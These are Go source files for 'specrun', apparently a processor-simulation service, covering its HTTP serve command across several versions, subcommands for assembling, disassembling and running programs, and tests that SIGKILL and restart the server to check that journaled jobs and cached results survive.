		os.Exit(1)
	}
	fmt.Print(core.FormatIPC(rows))
}
