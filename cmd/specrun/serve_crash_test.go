package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// TestMain lets this test binary double as the server under test: when
// SPECRUN_TEST_SERVE_ARGS is set the process runs `specrun serve` with
// those arguments instead of the test suite.  The crash tests re-exec
// os.Args[0] in that mode and then kill -9 it — a real process death, not
// an in-process simulation.
func TestMain(m *testing.M) {
	if args := os.Getenv("SPECRUN_TEST_SERVE_ARGS"); args != "" {
		if err := runServe(strings.Fields(args)); err != nil {
			fmt.Fprintln(os.Stderr, "serve:", err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// serveProc is one re-exec'd `specrun serve` child.
type serveProc struct {
	cmd  *exec.Cmd
	addr string

	mu     sync.Mutex
	stderr bytes.Buffer
}

// startServe launches the server child and waits for its "listening on"
// banner, which carries the real port for --addr 127.0.0.1:0.
func startServe(t *testing.T, args ...string) *serveProc {
	t.Helper()
	p := &serveProc{cmd: exec.Command(os.Args[0])}
	p.cmd.Env = append(os.Environ(), "SPECRUN_TEST_SERVE_ARGS="+strings.Join(args, " "))
	pr, err := p.cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.cmd.Process.Kill(); p.cmd.Wait() })

	banner := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(pr)
		for sc.Scan() {
			line := sc.Text()
			p.mu.Lock()
			p.stderr.WriteString(line + "\n")
			p.mu.Unlock()
			if i := strings.Index(line, "listening on "); i >= 0 {
				select {
				case banner <- strings.TrimSpace(line[i+len("listening on "):]):
				default:
				}
			}
		}
	}()
	select {
	case p.addr = <-banner:
	case <-time.After(30 * time.Second):
		t.Fatalf("server never announced its address; stderr:\n%s", p.log())
	}
	return p
}

func (p *serveProc) log() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.stderr.String()
}

func (p *serveProc) url(path string) string { return "http://" + p.addr + path }

func httpDo(t *testing.T, method, url, body string) (int, http.Header, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, b
}

// metricValue extracts the first sample of a family from /metrics text.
func metricValue(t *testing.T, expo, family string) float64 {
	t.Helper()
	for _, line := range strings.Split(expo, "\n") {
		if strings.HasPrefix(line, family+" ") || strings.HasPrefix(line, family+"{") {
			var v float64
			if _, err := fmt.Sscanf(line[strings.LastIndex(line, " ")+1:], "%g", &v); err == nil {
				return v
			}
		}
	}
	t.Fatalf("family %s not found in exposition", family)
	return 0
}

// TestServeKill9Restart is the end-to-end durability proof: a real
// `specrun serve` process is killed with SIGKILL mid-campaign, restarted
// over the same --data-dir, and must (a) resume the journaled job to
// completion, (b) re-serve an already-computed result from the disk cache
// — pinned by the disk hit counter in /metrics — and (c) not re-lease jobs
// that already finished.
func TestServeKill9Restart(t *testing.T) {
	if testing.Short() {
		t.Skip("re-exec suite")
	}
	dir := t.TempDir()
	args := []string{"--addr", "127.0.0.1:0", "--data-dir", dir, "--workers", "2", "--quiet"}

	a := startServe(t, args...)
	// A synchronous result lands in the disk cache.
	code, _, ref := httpDo(t, "POST", a.url("/v1/run/fig9"), "{}")
	if code != http.StatusOK {
		t.Fatalf("run: %d %s", code, ref)
	}
	// A long campaign is mid-flight when the process dies.
	code, _, body := httpDo(t, "POST", a.url("/v1/jobs"), `{"fuzz": {"seeds": 4000, "len": 64, "workers": 2}}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view struct {
		ID       string `json:"id"`
		Status   string `json:"status"`
		Progress struct{ Done, Total int }
	}
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		_, _, b := httpDo(t, "GET", a.url("/v1/jobs/"+view.ID), "")
		var v struct {
			Status   string `json:"status"`
			Progress struct {
				Done int `json:"done"`
			} `json:"progress"`
		}
		if json.Unmarshal(b, &v) == nil && (v.Progress.Done > 0 || v.Status == "done") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("campaign never progressed: %s", b)
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := a.cmd.Process.Kill(); err != nil { // SIGKILL: no cleanup runs
		t.Fatal(err)
	}
	a.cmd.Wait()

	// Restart over the same state directory.
	b2 := startServe(t, args...)
	// (a) The journaled job is restored and runs to completion.
	deadline = time.Now().Add(2 * time.Minute)
	for {
		code, _, jb := httpDo(t, "GET", b2.url("/v1/jobs/"+view.ID), "")
		if code != http.StatusOK {
			t.Fatalf("job lost across kill -9: %d %s", code, jb)
		}
		var v struct {
			Status string `json:"status"`
			Error  string `json:"error"`
		}
		if err := json.Unmarshal(jb, &v); err != nil {
			t.Fatal(err)
		}
		if v.Status == "done" {
			break
		}
		if v.Status == "failed" || v.Status == "cancelled" {
			t.Fatalf("restored job ended %s: %s", v.Status, v.Error)
		}
		if time.Now().After(deadline) {
			t.Fatalf("restored job never finished: %s", jb)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if code, _, res := httpDo(t, "GET", b2.url("/v1/jobs/"+view.ID+"/result"), ""); code != http.StatusOK || len(res) == 0 {
		t.Fatalf("no result after resume: %d", code)
	}

	// (b) The synchronous result is served from the disk tier, not re-run.
	_, _, expo := httpDo(t, "GET", b2.url("/metrics"), "")
	hitsBefore := metricValue(t, string(expo), "specrun_cache_disk_hits_total")
	code, hdr, got := httpDo(t, "POST", b2.url("/v1/run/fig9"), "{}")
	if code != http.StatusOK || !bytes.Equal(got, ref) {
		t.Fatalf("restart result: %d identical=%v", code, bytes.Equal(got, ref))
	}
	if hdr.Get("X-Cache") != "HIT" {
		t.Fatalf("X-Cache = %q after restart, want HIT", hdr.Get("X-Cache"))
	}
	_, _, expo = httpDo(t, "GET", b2.url("/metrics"), "")
	if hitsAfter := metricValue(t, string(expo), "specrun_cache_disk_hits_total"); hitsAfter <= hitsBefore {
		t.Fatalf("disk hit counter did not increase: %v -> %v", hitsBefore, hitsAfter)
	}

	// (c) A third boot restores the finished job terminally — no re-lease.
	if err := b2.cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	b2.cmd.Wait()
	c := startServe(t, args...)
	if _, _, jb := httpDo(t, "GET", c.url("/v1/jobs/"+view.ID), ""); !strings.Contains(string(jb), `"status": "done"`) && !strings.Contains(string(jb), `"status":"done"`) {
		t.Fatalf("finished job not terminal after third boot: %s", jb)
	}
	_, _, expo = httpDo(t, "GET", c.url("/metrics"), "")
	if sims := metricValue(t, string(expo), "specrun_simulations_total"); sims != 0 {
		t.Fatalf("third boot re-ran %v simulations for finished work", sims)
	}
}

// TestServeGracefulSIGTERM: one SIGTERM drains and exits 0.
func TestServeGracefulSIGTERM(t *testing.T) {
	if testing.Short() {
		t.Skip("re-exec suite")
	}
	dir := t.TempDir()
	p := startServe(t, "--addr", "127.0.0.1:0", "--data-dir", dir, "--quiet", "--drain-timeout", "30s")
	if code, _, body := httpDo(t, "POST", p.url("/v1/run/fig9"), "{}"); code != http.StatusOK {
		t.Fatalf("run: %d %s", code, body)
	}
	if err := p.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := p.cmd.Wait(); err != nil {
		t.Fatalf("SIGTERM exit: %v; stderr:\n%s", err, p.log())
	}
	if !strings.Contains(p.log(), "draining") {
		t.Fatalf("no drain banner in stderr:\n%s", p.log())
	}
}

// TestServeSecondSignalForcesExit: with a job pinning the drain, a second
// signal must end the process immediately with status 130.
func TestServeSecondSignalForcesExit(t *testing.T) {
	if testing.Short() {
		t.Skip("re-exec suite")
	}
	dir := t.TempDir()
	p := startServe(t, "--addr", "127.0.0.1:0", "--data-dir", dir, "--quiet", "--drain-timeout", "120s")
	// A long campaign keeps Drain busy well past the test's patience.
	code, _, body := httpDo(t, "POST", p.url("/v1/jobs"), `{"fuzz": {"seeds": 60000, "len": 512, "workers": 2}}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	if err := p.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	waitBanner(t, p, "draining")
	if err := p.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- p.cmd.Wait() }()
	select {
	case <-done:
		if code := p.cmd.ProcessState.ExitCode(); code != 130 {
			t.Fatalf("force exit status = %d, want 130; stderr:\n%s", code, p.log())
		}
	case <-time.After(15 * time.Second):
		t.Fatalf("second signal did not force exit; stderr:\n%s", p.log())
	}
}

func waitBanner(t *testing.T, p *serveProc, substr string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(p.log(), substr) {
		if time.Now().After(deadline) {
			t.Fatalf("no %q in stderr:\n%s", substr, p.log())
		}
		time.Sleep(10 * time.Millisecond)
	}
}
