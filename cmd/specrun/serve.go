package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"specrun/internal/server"
)

// runServe implements `specrun serve`: the simulation-as-a-service HTTP
// API.  Every paper driver is a POST /v1/run/{driver} endpoint, sweeps run
// synchronously at POST /v1/sweep or asynchronously via /v1/jobs, and
// deterministic results are memoized in a content-addressed cache.
//
// Prometheus metrics are served on GET /metrics; structured request and
// job logs go to stderr (--log-format json for machine-readable lines,
// --quiet to silence them); --pprof mounts net/http/pprof.
//
//	specrun serve --addr :8080 --workers 8 --cache-entries 1024 --log-format json
func runServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", ":8080", "listen address")
	workers := fs.Int("workers", 0, "server-wide simulation budget (0 = GOMAXPROCS)")
	cacheEntries := fs.Int("cache-entries", 512, "result-cache capacity in entries")
	logFormat := fs.String("log-format", "text", "request/job log encoding: text | json")
	quiet := fs.Bool("quiet", false, "disable request and job logging")
	enablePprof := fs.Bool("pprof", false, "mount net/http/pprof under /debug/pprof/")
	if err := fs.Parse(args); err != nil {
		return err
	}

	var logger *slog.Logger
	if !*quiet {
		switch *logFormat {
		case "text":
			logger = slog.New(slog.NewTextHandler(os.Stderr, nil))
		case "json":
			logger = slog.New(slog.NewJSONHandler(os.Stderr, nil))
		default:
			return fmt.Errorf("serve: unknown log format %q (text | json)", *logFormat)
		}
	}

	srv := server.New(server.Options{
		Workers:      *workers,
		CacheEntries: *cacheEntries,
		Logger:       logger,
		EnablePprof:  *enablePprof,
	})
	defer srv.Close()
	hs := &http.Server{Addr: *addr, Handler: srv.Handler()}

	// SIGINT/SIGTERM drain in-flight requests, then cancel jobs via Close.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	errc := make(chan error, 1)
	go func() { errc <- hs.ListenAndServe() }()
	fmt.Fprintf(os.Stderr, "specrun serve: %s listening on %s\n", server.Version(), *addr)

	select {
	case err := <-errc:
		return err
	case <-ctx.Done():
		fmt.Fprintln(os.Stderr, "specrun serve: shutting down")
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := hs.Shutdown(shutdownCtx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
			return err
		}
		return nil
	}
}
