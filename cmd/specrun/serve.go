package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"specrun/internal/faultinject"
	"specrun/internal/server"
)

// runServe implements `specrun serve`: the simulation-as-a-service HTTP
// API.  Every paper driver is a POST /v1/run/{driver} endpoint, sweeps run
// synchronously at POST /v1/sweep or asynchronously via /v1/jobs, and
// deterministic results are memoized in a content-addressed cache.
//
// With --data-dir the service is crash-safe: results persist in a
// content-addressed disk cache and jobs in an append-only journal, so a
// killed process resumes its queue on the next boot and re-serves finished
// results byte-identically.  The first SIGINT/SIGTERM drains gracefully
// (bounded by --drain-timeout); a second signal force-exits immediately —
// with a data dir that is safe, the journal replays on restart.
//
// Prometheus metrics are served on GET /metrics; structured request and
// job logs go to stderr (--log-format json for machine-readable lines,
// --quiet to silence them); --pprof mounts net/http/pprof.
//
// SPECRUN_FAULTS arms the deterministic chaos harness (testing only), e.g.
// SPECRUN_FAULTS="seed=42;rate=8;points=disk.write,fsync".
//
//	specrun serve --addr :8080 --workers 8 --data-dir /var/lib/specrun
func runServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", ":8080", "listen address")
	workers := fs.Int("workers", 0, "server-wide simulation budget (0 = GOMAXPROCS)")
	cacheEntries := fs.Int("cache-entries", 512, "in-memory result-cache capacity in entries")
	dataDir := fs.String("data-dir", "", "state directory for the disk result cache and job journal (empty = in-memory only, nothing survives restarts)")
	diskCacheMB := fs.Int64("disk-cache-mb", 256, "disk result-cache bound in MiB (with --data-dir)")
	drainTimeout := fs.Duration("drain-timeout", 30*time.Second, "graceful-shutdown bound: time to finish in-flight requests and jobs after the first signal")
	leaseTTL := fs.Duration("lease-ttl", time.Minute, "job lease: max time an attempt may run without reporting progress before the watchdog reclaims it")
	jobTimeout := fs.Duration("job-timeout", 0, "hard bound on a single job attempt (0 = unbounded)")
	maxAttempts := fs.Int("max-attempts", 3, "max execution attempts per job before it fails permanently")
	logFormat := fs.String("log-format", "text", "request/job log encoding: text | json")
	quiet := fs.Bool("quiet", false, "disable request and job logging")
	enablePprof := fs.Bool("pprof", false, "mount net/http/pprof under /debug/pprof/")
	if err := fs.Parse(args); err != nil {
		return err
	}

	var logger *slog.Logger
	if !*quiet {
		switch *logFormat {
		case "text":
			logger = slog.New(slog.NewTextHandler(os.Stderr, nil))
		case "json":
			logger = slog.New(slog.NewJSONHandler(os.Stderr, nil))
		default:
			return fmt.Errorf("serve: unknown log format %q (text | json)", *logFormat)
		}
	}

	if env := os.Getenv("SPECRUN_FAULTS"); env != "" {
		cfg, enabled, err := faultinject.ParseEnv(env)
		if err != nil {
			return fmt.Errorf("serve: SPECRUN_FAULTS: %w", err)
		}
		if enabled {
			faultinject.Enable(cfg)
			fmt.Fprintf(os.Stderr, "specrun serve: CHAOS HARNESS ARMED (%s)\n", env)
		}
	}

	srv := server.New(server.Options{
		Workers:        *workers,
		CacheEntries:   *cacheEntries,
		DataDir:        *dataDir,
		DiskCacheBytes: *diskCacheMB << 20,
		LeaseTTL:       *leaseTTL,
		JobTimeout:     *jobTimeout,
		Retry:          server.RetryPolicy{MaxAttempts: *maxAttempts},
		Logger:         logger,
		EnablePprof:    *enablePprof,
	})
	defer srv.Close()

	// Listen before announcing, so --addr :0 prints the real port — the
	// crash-restart test harness (and humans scripting the server) depend
	// on the "listening on" line carrying a dialable address.
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	hs := &http.Server{
		Handler:           srv.Handler(),
		ReadHeaderTimeout: 10 * time.Second,
		IdleTimeout:       2 * time.Minute,
	}

	sigc := make(chan os.Signal, 2)
	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sigc)

	errc := make(chan error, 1)
	go func() { errc <- hs.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "specrun serve: %s listening on %s\n", server.Version(), ln.Addr())

	select {
	case err := <-errc:
		return err
	case sig := <-sigc:
		fmt.Fprintf(os.Stderr, "specrun serve: %v: draining (up to %v; send again to force exit)\n", sig, *drainTimeout)
	}

	// Graceful path: stop accepting, finish in-flight requests and queued
	// jobs within the drain budget.  A second signal aborts immediately —
	// the journal makes that safe when a data dir is configured.
	drainCtx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	go func() {
		sig := <-sigc
		fmt.Fprintf(os.Stderr, "specrun serve: second %v: forcing exit\n", sig)
		os.Exit(130)
	}()

	done := make(chan error, 1)
	go func() {
		if err := hs.Shutdown(drainCtx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
			done <- err
			return
		}
		done <- srv.Drain(drainCtx)
	}()
	if err := <-done; err != nil {
		fmt.Fprintf(os.Stderr, "specrun serve: drain incomplete: %v (journaled work resumes on next boot)\n", err)
	}
	return nil
}
