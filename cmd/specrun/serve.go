package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"specrun/internal/server"
)

// runServe implements `specrun serve`: the simulation-as-a-service HTTP
// API.  Every paper driver is a POST /v1/run/{driver} endpoint, sweeps run
// synchronously at POST /v1/sweep or asynchronously via /v1/jobs, and
// deterministic results are memoized in a content-addressed cache.
//
//	specrun serve --addr :8080 --workers 8 --cache-entries 1024
func runServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", ":8080", "listen address")
	workers := fs.Int("workers", 0, "server-wide simulation budget (0 = GOMAXPROCS)")
	cacheEntries := fs.Int("cache-entries", 512, "result-cache capacity in entries")
	if err := fs.Parse(args); err != nil {
		return err
	}

	srv := server.New(server.Options{Workers: *workers, CacheEntries: *cacheEntries})
	defer srv.Close()
	hs := &http.Server{Addr: *addr, Handler: srv.Handler()}

	// SIGINT/SIGTERM drain in-flight requests, then cancel jobs via Close.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	errc := make(chan error, 1)
	go func() { errc <- hs.ListenAndServe() }()
	fmt.Fprintf(os.Stderr, "specrun serve: %s listening on %s\n", server.Version(), *addr)

	select {
	case err := <-errc:
		return err
	case <-ctx.Done():
		fmt.Fprintln(os.Stderr, "specrun serve: shutting down")
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := hs.Shutdown(shutdownCtx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
			return err
		}
		return nil
	}
}
