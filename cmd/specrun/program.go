package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"specrun/internal/asm"
	"specrun/internal/core"
	"specrun/internal/prog"
	"specrun/internal/server"
)

// readInput reads an interchange input: a file path, or "-" for stdin.
func readInput(path string) ([]byte, error) {
	if path == "-" {
		return io.ReadAll(os.Stdin)
	}
	return os.ReadFile(path)
}

// writeOutput writes to path, or stdout for "-"/empty.
func writeOutput(path string, data []byte) error {
	if path == "" || path == "-" {
		_, err := os.Stdout.Write(data)
		return err
	}
	return os.WriteFile(path, data, 0o644)
}

// loadProgram reads a program in either interchange form — canonical .sprog
// binary (detected by magic) or assembly text — and returns it with its
// canonical encoding.
func loadProgram(path string) (*asm.Program, []byte, error) {
	data, err := readInput(path)
	if err != nil {
		return nil, nil, err
	}
	if bytes.HasPrefix(data, []byte(prog.Magic)) {
		p, err := prog.Decode(data)
		if err != nil {
			return nil, nil, err
		}
		return p, data, nil
	}
	name := path
	if name == "-" {
		name = "stdin"
	}
	p, err := asm.Parse(name, string(data))
	if err != nil {
		return nil, nil, err
	}
	bin, err := prog.Encode(p)
	if err != nil {
		return nil, nil, err
	}
	return p, bin, nil
}

// runAsm implements `specrun asm`: assemble a source file into the
// canonical .sprog interchange binary.
//
//	specrun asm prog.asm                 writes prog.sprog
//	specrun asm -o - prog.asm            binary on stdout
func runAsm(args []string) error {
	fs := flag.NewFlagSet("asm", flag.ContinueOnError)
	out := fs.String("o", "", `output path ("-" = stdout; default: input with `+prog.Ext+` extension)`)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("asm: exactly one input file (or -) required")
	}
	in := fs.Arg(0)
	_, bin, err := loadProgram(in)
	if err != nil {
		return err
	}
	dst := *out
	if dst == "" {
		if in == "-" {
			dst = "-"
		} else {
			stem := strings.TrimSuffix(strings.TrimSuffix(in, ".asm"), ".s")
			dst = stem + prog.Ext
		}
	}
	if err := writeOutput(dst, bin); err != nil {
		return err
	}
	if dst != "-" {
		fmt.Fprintf(os.Stderr, "asm: %s (%d bytes, sha256 %.12s)\n", dst, len(bin), prog.Hash(bin))
	}
	return nil
}

// runDisasm implements `specrun disasm`: print the canonical disassembly of
// a .sprog binary (or re-canonicalize assembly text).  The output re-parses
// to a byte-identical binary.
func runDisasm(args []string) error {
	fs := flag.NewFlagSet("disasm", flag.ContinueOnError)
	out := fs.String("o", "-", `output path ("-" = stdout)`)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("disasm: exactly one input file (or -) required")
	}
	p, _, err := loadProgram(fs.Arg(0))
	if err != nil {
		return err
	}
	return writeOutput(*out, []byte(p.Disassemble()))
}

// runRun implements `specrun run`: execute an interchange program (asm text
// or .sprog binary) on the simulated Table 1 processor and report its
// pipeline statistics.  --json emits the same canonical document as
// POST /v1/run/program.
func runRun(args []string) error {
	fs := flag.NewFlagSet("run", flag.ContinueOnError)
	mode := fs.String("runahead", "original", "none | original | precise | vector")
	secure := fs.Bool("secure", false, "enable the §6 SL-cache defense")
	skipINV := fs.Bool("skipinv", false, "enable the skip-INV-branch restriction")
	maxCycles := fs.Uint64("max-cycles", 0, "cycle budget (0 = default)")
	jsonOut := fs.Bool("json", false, "emit the canonical JSON document (matches POST /v1/run/program)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("run: exactly one program file (or -) required")
	}
	p, bin, err := loadProgram(fs.Arg(0))
	if err != nil {
		return err
	}
	cfg := core.DefaultConfig()
	if err := cfg.Runahead.Kind.UnmarshalText([]byte(*mode)); err != nil {
		return err
	}
	cfg.Secure.Enabled = *secure
	cfg.Runahead.SkipINVBranch = *skipINV
	cfg = core.Normalize(cfg)
	if err := core.Validate(cfg); err != nil {
		return err
	}
	st, err := core.RunProgramStatsCtx(context.Background(), cfg, p, *maxCycles, nil)
	if err != nil {
		return err
	}
	if *jsonOut {
		b, err := server.Encode(server.ProgramResponse{
			Sprog: prog.Hash(bin),
			Insts: len(p.Insts),
			Base:  p.Base,
			Stats: st,
		})
		if err != nil {
			return err
		}
		_, err = os.Stdout.Write(b)
		return err
	}
	fmt.Printf("program: %d insts at %#x, sprog sha256 %.12s (%d bytes)\n",
		len(p.Insts), p.Base, prog.Hash(bin), len(bin))
	fmt.Printf("cycles=%d committed=%d ipc=%.3f fetched=%d issued=%d squashed=%d\n",
		st.Cycles, st.Committed, st.IPC(), st.Fetched, st.Issued, st.Squashed)
	fmt.Printf("branches=%d mispredicts=%d runahead: episodes=%d cycles=%d inv-branches=%d pseudo-retired=%d\n",
		st.CondBranches, st.CondMispredicts, st.RunaheadEpisodes, st.RunaheadCycles, st.INVBranches, st.PseudoRetired)
	return nil
}
